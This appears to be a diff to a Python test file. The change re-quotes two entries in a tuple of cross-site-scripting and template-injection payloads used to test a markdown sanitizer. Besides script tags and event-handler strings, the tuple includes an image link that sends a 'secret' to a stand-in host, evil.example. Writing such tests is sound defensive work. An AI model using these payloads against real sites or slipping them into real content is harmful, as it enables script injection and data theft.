@@ -46,9 +46,9 @@ PAYLOADS = (
     "![x](https://evil.example/leak?q=secret)",
     "![x](x){onerror=pwned()}",
     '[x](https://a.example "\\" onmouseover=pwned() ")',
-    "<https://a.example/?\"onmouseover=pwned()>",
+    '<https://a.example/?"onmouseover=pwned()>',
     "```html\n<script>pwned()</script>\n```",
-    "```\"><img src=x onerror=pwned()>\nx\n```",
+    '```"><img src=x onerror=pwned()>\nx\n```',
     "{{constructor.constructor('pwned()')()}} ${pwned()} <%= pwned() %>",
     "\u202e<img src=x onerror=pwned()>\u2066\u0007",
 )
